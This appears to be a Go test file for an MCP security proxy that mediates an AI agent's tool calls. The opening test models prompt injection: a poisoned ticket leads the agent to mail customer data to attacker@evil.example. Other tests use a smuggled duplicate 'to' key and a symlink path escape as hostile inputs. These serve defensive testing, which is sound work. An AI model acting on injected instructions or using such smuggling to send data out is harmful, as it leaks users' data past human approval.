@@ -1,0 +1,577 @@
+package proxy
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/bouncer-mcp/bouncer/internal/approval"
+)
+
+// The attack the product exists for: the agent reads a poisoned ticket and
+// then tries to mail the attacker. The mail never reaches the server.
+func TestTaintedDestinationNeverForwarded(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	cs := h.client(nil)
+	text, isErr := callTool(t, cs, "get_ticket", map[string]any{"id": "4711"})
+	if isErr || !strings.Contains(text, "attacker@evil.example") {
+		t.Fatalf("get_ticket = %q, %v", text, isErr)
+	}
+	text, isErr = callTool(t, cs, "send_email", map[string]any{"to": "attacker@evil.example", "subject": "list", "body": "all customers"})
+	if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
+		t.Fatalf("send to attacker = %q, isError %v; want blocked", text, isErr)
+	}
+	// Case and full-width folding do not get it through either.
+	text, isErr = callTool(t, cs, "send_email", map[string]any{"to": "ATTACKER@evil.example", "subject": "list"})
+	if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
+		t.Fatalf("upper-case send = %q, %v; want blocked", text, isErr)
+	}
+	if m := h.mails(); m != nil {
+		t.Fatalf("a refused mail reached the server: %v", m)
+	}
+	// A vouched recipient still goes through, and reaches the server.
+	if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "boss@corp.example", "subject": "hi"}); isErr {
+		t.Fatalf("trusted send refused: %s", text)
+	}
+	if m := h.mails(); len(m) != 1 || !strings.Contains(m[0], "boss@corp.example") {
+		t.Fatalf("mails = %v", m)
+	}
+	got := verdicts(h.auditLines())
+	want := "get_ticket:allow/default send_email:deny/sink send_email:deny/sink send_email:allow/default"
+	if got != want {
+		t.Fatalf("audit = %s\nwant    %s", got, want)
+	}
+}
+
+// Paths outside the allowed prefix are refused and nothing is written;
+// a symlink inside the prefix that points outside is refused too.
+func TestPathConfinement(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	cs := h.client(nil)
+	out := filepath.Join(h.dir, "out")
+	outside := filepath.Join(h.dir, "secret")
+	if err := os.Symlink(h.dir, filepath.Join(out, "escape")); err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		path    string
+		allowed bool
+	}{
+		{filepath.Join(out, "ok.txt"), true},
+		{outside, false},
+		{filepath.Join(out, "..", "secret"), false},
+		{filepath.Join(out, "escape", "secret"), false},
+		{h.dir + "/outx", false},
+	}
+	for _, c := range cases {
+		text, isErr := callTool(t, cs, "write_file", map[string]any{"path": c.path, "content": "x"})
+		if isErr == c.allowed {
+			t.Errorf("write_file %s: isError=%v (%s), want allowed=%v", c.path, isErr, text, c.allowed)
+		}
+	}
+	if _, err := os.Stat(outside); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("a refused write reached the disk: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(out, "ok.txt")); err != nil {
+		t.Fatalf("allowed write missing: %v", err)
+	}
+}
+
+// A client with elicitation is asked; a yes lets the call through and lasts
+// the session; the audit log has ask then allow/approval.
+func TestElicitationApproves(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	asked := make(chan string, 4)
+	cs := h.client(&mcp.ClientOptions{
+		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
+			asked <- req.Params.Message
+			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{}}, nil
+		},
+	})
+	if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example", "subject": "hi"}); isErr {
+		t.Fatalf("approved send refused: %s", text)
+	}
+	msg := <-asked
+	for _, want := range []string{"send_email", "helpdesk", "to=", "new@partner.example"} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("question %q does not name %q", msg, want)
+		}
+	}
+	// The yes lasts the session: no second question.
+	if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example", "subject": "again"}); isErr {
+		t.Fatalf("second send refused: %s", text)
+	}
+	select {
+	case m := <-asked:
+		t.Fatalf("asked again: %s", m)
+	default:
+	}
+	if n := len(h.mails()); n != 2 {
+		t.Fatalf("%d mails, want 2", n)
+	}
+	got := verdicts(h.auditLines())
+	if !strings.HasPrefix(got, "send_email:ask/sink send_email:allow/approval send_email:allow/") {
+		t.Fatalf("audit = %s", got)
+	}
+}
+
+func TestElicitationDeclined(t *testing.T) {
+	for _, action := range []string{"decline", "cancel"} {
+		t.Run(action, func(t *testing.T) {
+			h := newHarness(t, hopts{policy: helpdeskPolicy})
+			cs := h.client(&mcp.ClientOptions{
+				ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
+					return &mcp.ElicitResult{Action: action}, nil
+				},
+			})
+			text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example"})
+			if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
+				t.Fatalf("declined send = %q, %v", text, isErr)
+			}
+			if h.mails() != nil {
+				t.Fatal("a declined mail reached the server")
+			}
+			if got := verdicts(h.auditLines()); got != "send_email:ask/sink send_email:deny/approval" {
+				t.Fatalf("audit = %s", got)
+			}
+		})
+	}
+}
+
+// An unanswered question times out into a deny, and while one call waits
+// for a human, other calls carry on.
+func TestElicitationTimeoutDoesNotStall(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy, elicitTimeout: 2 * time.Second})
+	withdrawn := make(chan struct{})
+	cs := h.client(&mcp.ClientOptions{
+		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
+			<-ctx.Done() // the proxy withdraws the question
+			close(withdrawn)
+			return nil, ctx.Err()
+		},
+	})
+	done := make(chan string, 1)
+	go func() {
+		text, _ := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example"})
+		done <- text
+	}()
+	time.Sleep(200 * time.Millisecond)
+	if text, isErr := callTool(t, cs, "echo", map[string]any{"text": "still here"}); isErr || text != "still here" {
+		t.Fatalf("echo while a human is asked = %q, %v", text, isErr)
+	}
+	select {
+	case <-done:
+		t.Fatal("the held call was answered before the timeout")
+	default:
+	}
+	text := <-done
+	if !strings.HasPrefix(text, BlockedPrefix) || !strings.Contains(text, "did not answer") {
+		t.Fatalf("timed-out call = %q", text)
+	}
+	select {
+	case <-withdrawn:
+	case <-time.After(5 * time.Second):
+		t.Fatal("the question was not withdrawn from the client")
+	}
+	if h.mails() != nil {
+		t.Fatal("an unanswered mail reached the server")
+	}
+}
+
+// A client that cancels a call the proxy holds for a human: the question is
+// withdrawn, nothing is forwarded, and the log says so.
+func TestCancelHeldCall(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	asked := make(chan struct{})
+	withdrawn := make(chan struct{})
+	cs := h.client(&mcp.ClientOptions{
+		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
+			close(asked)
+			<-ctx.Done()
+			close(withdrawn)
+			return nil, ctx.Err()
+		},
+	})
+	ctx, cancel := context.WithCancel(context.Background())
+	errc := make(chan error, 1)
+	go func() {
+		_, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "new@partner.example"}})
+		errc <- err
+	}()
+	<-asked
+	cancel()
+	if err := <-errc; err == nil {
+		t.Fatal("cancelled call returned no error")
+	}
+	select {
+	case <-withdrawn:
+	case <-time.After(5 * time.Second):
+		t.Fatal("the question was not withdrawn")
+	}
+	// The session still works, and the cancelled mail never went out.
+	if text, isErr := callTool(t, cs, "echo", map[string]any{"text": "ok"}); isErr || text != "ok" {
+		t.Fatalf("echo after cancel = %q", text)
+	}
+	if h.mails() != nil {
+		t.Fatal("a cancelled mail reached the server")
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	for !strings.Contains(verdicts(h.auditLines()), "send_email:deny/approval") && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	if got := verdicts(h.auditLines()); !strings.HasPrefix(got, "send_email:ask/sink send_email:deny/approval") {
+		t.Fatalf("audit = %s", got)
+	}
+}
+
+var codeRe = regexp.MustCompile(`bouncer approve ([A-Z0-9]{3}-[A-Z0-9]{3})`)
+
+// Without elicitation the call is denied with a one-time code; after the
+// human approves it, the retry passes once.
+func TestApprovalCode(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	cs := h.client(nil)
+	args := map[string]any{"to": "new@partner.example", "subject": "hi"}
+	text, isErr := callTool(t, cs, "send_email", args)
+	m := codeRe.FindStringSubmatch(text)
+	if !isErr || !strings.HasPrefix(text, BlockedPrefix) || m == nil {
+		t.Fatalf("first send = %q, %v; want blocked with a code", text, isErr)
+	}
+	if !strings.Contains(text, "own terminal") || !strings.Contains(text, "five minutes") {
+		t.Errorf("instructions missing: %q", text)
+	}
+	// Retrying before approval does not help.
+	if text, isErr := callTool(t, cs, "send_email", args); !isErr {
+		t.Fatalf("unapproved retry allowed: %s", text)
+	}
+	store := approval.Open(filepath.Join(h.home, "pending.json"), nil)
+	if err := store.Approve(m[1]); err != nil {
+		t.Fatal(err)
+	}
+	if text, isErr := callTool(t, cs, "send_email", args); isErr {
+		t.Fatalf("approved retry refused: %s", text)
+	}
+	if n := len(h.mails()); n != 1 {
+		t.Fatalf("%d mails, want 1", n)
+	}
+	// The code was single use.
+	if text, isErr := callTool(t, cs, "send_email", args); !isErr {
+		t.Fatalf("second retry allowed on a used code: %s", text)
+	}
+	es := h.auditLines()
+	got := verdicts(es)
+	want := "send_email:ask/sink send_email:deny/approval send_email:ask/sink send_email:deny/approval send_email:ask/sink send_email:allow/approval send_email:ask/sink send_email:deny/approval"
+	if got != want {
+		t.Fatalf("audit = %s\nwant    %s", got, want)
+	}
+	if es[1].Code != m[1] || es[5].Code != m[1] {
+		t.Errorf("audit codes = %q, %q; want %q", es[1].Code, es[5].Code, m[1])
+	}
+}
+
+// A corrupt pending.json approves nothing and says why.
+func TestPendingCorrupt(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	if err := os.WriteFile(filepath.Join(h.home, "pending.json"), []byte("{not json"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cs := h.client(nil)
+	text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example"})
+	if !isErr || !strings.HasPrefix(text, BlockedPrefix) || codeRe.MatchString(text) {
+		t.Fatalf("send with corrupt pending.json = %q, %v", text, isErr)
+	}
+	if !strings.Contains(text, "pending.json") && !strings.Contains(text, "approval store") {
+		t.Errorf("reason does not say what is wrong: %q", text)
+	}
+	if h.mails() != nil {
+		t.Fatal("mail reached the server")
+	}
+}
+
+// When the audit log can't be written, calls are denied and not forwarded.
+func TestAuditUnwritableDenies(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	cs := h.client(nil)
+	if _, isErr := callTool(t, cs, "send_email", map[string]any{"to": "boss@corp.example"}); isErr {
+		t.Fatal("first send refused")
+	}
+	// Replace the log with a directory: the next append can't write.
+	path := filepath.Join(h.home, "audit.jsonl")
+	if err := os.Rename(path, path+".old"); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(path, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "boss@corp.example"})
+	if !isErr || !strings.Contains(text, "audit") {
+		t.Fatalf("send with a broken audit log = %q, %v", text, isErr)
+	}
+	if n := len(h.mails()); n != 1 {
+		t.Fatalf("%d mails, want 1: a call was forwarded without its audit line", n)
+	}
+}
+
+// An upstream that crashes in the middle of a call: the call gets a
+// JSON-RPC error and Run reports the upstream's exit.
+func TestUpstreamCrashMidCall(t *testing.T) {
+	h := newHarness(t, hopts{})
+	cs := h.client(nil)
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	_, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "crash", Arguments: map[string]any{}})
+	if err == nil || ctx.Err() != nil {
+		t.Fatalf("crash call: err=%v ctx=%v; want a JSON-RPC error before the deadline", err, ctx.Err())
+	}
+	if err := h.waitExit(); !errors.Is(err, ErrUpstreamExited) {
+		t.Fatalf("Run = %v, want ErrUpstreamExited", err)
+	}
+	<-h.proc.Done()
+	if e := h.proc.ExitError(); e == nil || !strings.Contains(e.Error(), "exit status 3") {
+		t.Fatalf("upstream exit = %v", e)
+	}
+}
+
+// An upstream that writes something that is not JSON ends the session.
+func TestUpstreamGarbage(t *testing.T) {
+	cmd := selfServer(t, "raw-garbage", "")
+	h := newHarness(t, hopts{cmd: &cmd})
+	r := h.raw()
+	r.handshake()
+	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{}}}`)
+	resp := r.response(1)
+	if resp.Error == nil {
+		t.Fatalf("want an error for the call the garbage answered, got %s", resp.Result)
+	}
+	if err := h.waitExit(); !errors.Is(err, ErrUpstreamExited) {
+		t.Fatalf("Run = %v", err)
+	}
+}
+
+// Messages over the go-sdk's default 16 MiB frame pass.
+func TestHugeResult(t *testing.T) {
+	cmd := selfServer(t, "raw-huge", "")
+	h := newHarness(t, hopts{cmd: &cmd})
+	r := h.raw()
+	r.handshake()
+	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{}}}`)
+	text, isErr := resultText(t, r.response(1))
+	if isErr || len(text) != 20<<20 {
+		t.Fatalf("huge result: %d bytes, isError %v", len(text), isErr)
+	}
+}
+
+// Pinning follows every page; a server whose list can't be had pins
+// nothing and every call is denied.
+func TestPinning(t *testing.T) {
+	cases := []struct {
+		server  string
+		tool    string
+		allowed bool
+	}{
+		{"raw-pages", "page3", true},
+		{"raw-pages", "page", true},
+		{"raw-pages", "nope", false},
+		{"raw-loop", "t", false},
+		{"raw-nolist", "echo", false},
+	}
+	for _, c := range cases {
+		t.Run(c.server+"/"+c.tool, func(t *testing.T) {
+			cmd := selfServer(t, c.server, "")
+			h := newHarness(t, hopts{cmd: &cmd})
+			r := h.raw()
+			r.handshake()
+			// Sent right after initialized: the call waits for the pin.
+			r.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":%q,"arguments":{}}}`, c.tool))
+			text, isErr := resultText(t, r.response(1))
+			if isErr == c.allowed {
+				t.Fatalf("%s: %q isError=%v, want allowed=%v", c.tool, text, isErr, c.allowed)
+			}
+			if !c.allowed {
+				es := h.auditLines()
+				if len(es) != 1 || es[0].Rule != "pinning" {
+					t.Fatalf("audit = %s", verdicts(es))
+				}
+			}
+		})
+	}
+}
+
+// A tool added after startup is refused; a tool whose definition changed is
+// refused with a reason saying so.
+func TestListChanged(t *testing.T) {
+	h := newHarness(t, hopts{})
+	changed := make(chan struct{}, 8)
+	cs := h.client(&mcp.ClientOptions{
+		ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) { changed <- struct{}{} },
+	})
+	if _, isErr := callTool(t, cs, "add_tool", map[string]any{}); isErr {
+		t.Fatal("add_tool refused")
+	}
+	<-changed // relayed to the client
+	tools, err := cs.ListTools(context.Background(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, tl := range tools.Tools {
+		found = found || tl.Name == "late"
+	}
+	if !found {
+		t.Fatal("the new tool is not visible to the client (the proxy passes lists through)")
+	}
+	if text, isErr := callTool(t, cs, "late", map[string]any{"text": "x"}); !isErr || !strings.HasPrefix(text, BlockedPrefix) {
+		t.Fatalf("late tool = %q, %v; want refused", text, isErr)
+	}
+	if text, isErr := callTool(t, cs, "echo", map[string]any{"text": "x"}); isErr {
+		t.Fatalf("echo before change refused: %s", text)
+	}
+	if _, isErr := callTool(t, cs, "change_echo", map[string]any{}); isErr {
+		t.Fatal("change_echo refused")
+	}
+	<-changed
+	// The proxy re-lists on its own; give it a moment, without the client
+	// listing, so the proxy's own re-list is what is tested.
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		text, isErr := callTool(t, cs, "echo", map[string]any{"text": "x"})
+		if isErr {
+			if !strings.Contains(text, "echo") {
+				t.Errorf("reason does not name the tool: %q", text)
+			}
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("changed tool still allowed")
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	for _, e := range h.auditLines() {
+		if e.Tool == "late" && e.Rule != "pinning" {
+			t.Errorf("late: rule %s, want pinning", e.Rule)
+		}
+	}
+}
+
+// The wire rules at the edge: server/discover gets -32601, initialize is
+// clamped, reserved IDs are refused, a notification-shaped tools/call and
+// ambiguous JSON are never forwarded.
+func TestWireRules(t *testing.T) {
+	h := newHarness(t, hopts{policy: helpdeskPolicy})
+	r := h.raw()
+	r.send(`{"jsonrpc":"2.0","id":"d","method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28"}}}`)
+	if resp := r.response("d"); resp.Error == nil || !strings.Contains(resp.Error.Error(), "not found") {
+		t.Fatalf("server/discover = %v %s", resp.Error, resp.Result)
+	}
+	r.send(`{"jsonrpc":"2.0","id":"m","method":"tools/list","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28"}}}`)
+	if resp := r.response("m"); resp.Error == nil {
+		t.Fatalf("modern pre-initialize request answered: %s", resp.Result)
+	}
+	r.send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2026-07-28","capabilities":{"elicitation":{}},"clientInfo":{"name":"raw","version":"1"}}}`)
+	resp := r.response(0)
+	var init struct {
+		ProtocolVersion string `json:"protocolVersion"`
+	}
+	if err := json.Unmarshal(resp.Result, &init); err != nil || init.ProtocolVersion == "" || init.ProtocolVersion > MaxProtocolVersion {
+		t.Fatalf("initialize result %s: version %q", resp.Result, init.ProtocolVersion)
+	}
+	r.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
+	r.send(`{"jsonrpc":"2.0","id":"bouncer-7","method":"ping"}`)
+	if resp := r.response("bouncer-7"); resp.Error == nil {
+		t.Fatal("a client request with a reserved ID was forwarded")
+	}
+	// A tools/call without an id: never forwarded, nothing answered.
+	r.send(`{"jsonrpc":"2.0","method":"tools/call","params":{"name":"send_email","arguments":{"to":"boss@corp.example"}}}`)
+	// Duplicate keys: the engine and the server could read different values.
+	r.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"boss@corp.example","to":"attacker@evil.example"}}}`)
+	if text, isErr := resultText(t, r.response(2)); !isErr || !strings.Contains(text, "twice") {
+		t.Fatalf("duplicate key call = %q, %v", text, isErr)
+	}
+	r.send(`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"send_email","arguments":["boss@corp.example"]}}`)
+	if text, isErr := resultText(t, r.response(3)); !isErr {
+		t.Fatalf("array arguments = %q, allowed", text)
+	}
+	r.send(`{"jsonrpc":"2.0","id":4,"method":"ping"}`)
+	r.response(4)
+	if h.mails() != nil {
+		t.Fatalf("mail reached the server: %v", h.mails())
+	}
+	if got := verdicts(h.auditLines()); got != "send_email:deny/default send_email:deny/default send_email:deny/default" {
+		t.Fatalf("audit = %s", got)
+	}
+}
+
+// An upstream request using the proxy's ID range is refused, not relayed.
+func TestUpstreamReservedID(t *testing.T) {
+	cmd := selfServer(t, "raw-reserved", "")
+	h := newHarness(t, hopts{cmd: &cmd})
+	r := h.raw()
+	r.send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}`)
+	r.response(0)
+	r.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
+	r.send(`{"jsonrpc":"2.0","id":5,"method":"ping"}`)
+	for {
+		switch m := r.next(true).(type) {
+		case *jsonrpc.Request:
+			if m.IsCall() {
+				t.Fatalf("relayed a request with a reserved ID: %v %s", m.ID.Raw(), m.Method)
+			}
+			continue
+		case *jsonrpc.Response:
+			if m.ID.Raw() != int64(5) {
+				continue
+			}
+		}
+		break
+	}
+}
+
+// The client hangs up in the middle of a call: Run returns nil, and the
+// upstream (and its process group) is gone after Stop.
+func TestClientDisconnectMidCall(t *testing.T) {
+	h := newHarness(t, hopts{})
+	r := h.raw()
+	r.handshake()
+	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"slow","arguments":{"ms":60000}}}`)
+	time.Sleep(300 * time.Millisecond)
+	r.conn.Close()
+	if err := h.waitExit(); err != nil {
+		t.Fatalf("Run after client EOF = %v, want nil", err)
+	}
+	pgid := h.proc.Pid()
+	start := time.Now()
+	_ = h.proc.Stop(500 * time.Millisecond)
+	if d := time.Since(start); d > 3*time.Second {
+		t.Errorf("Stop took %v", d)
+	}
+	if !groupGone(pgid) {
+		t.Fatal("upstream process group still running")
+	}
+}
+
+// On client EOF the proxy still relays what the upstream answers for
+// requests sent before it, so `printf ... | bouncer run` works.
+func TestClientEOFDrains(t *testing.T) {
+	h := newHarness(t, hopts{})
+	r := h.raw()
+	r.handshake()
+	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"text":"last words"}}}`)
+	h.clientW.Close() // EOF on the proxy's stdin; its stdout stays open
+	text, _ := resultText(t, r.response(1))
+	if text != "last words" {
+		t.Fatalf("echo = %q", text)
+	}
+	if err := h.waitExit(); err != nil {
+		t.Fatalf("Run = %v", err)
+	}
+}
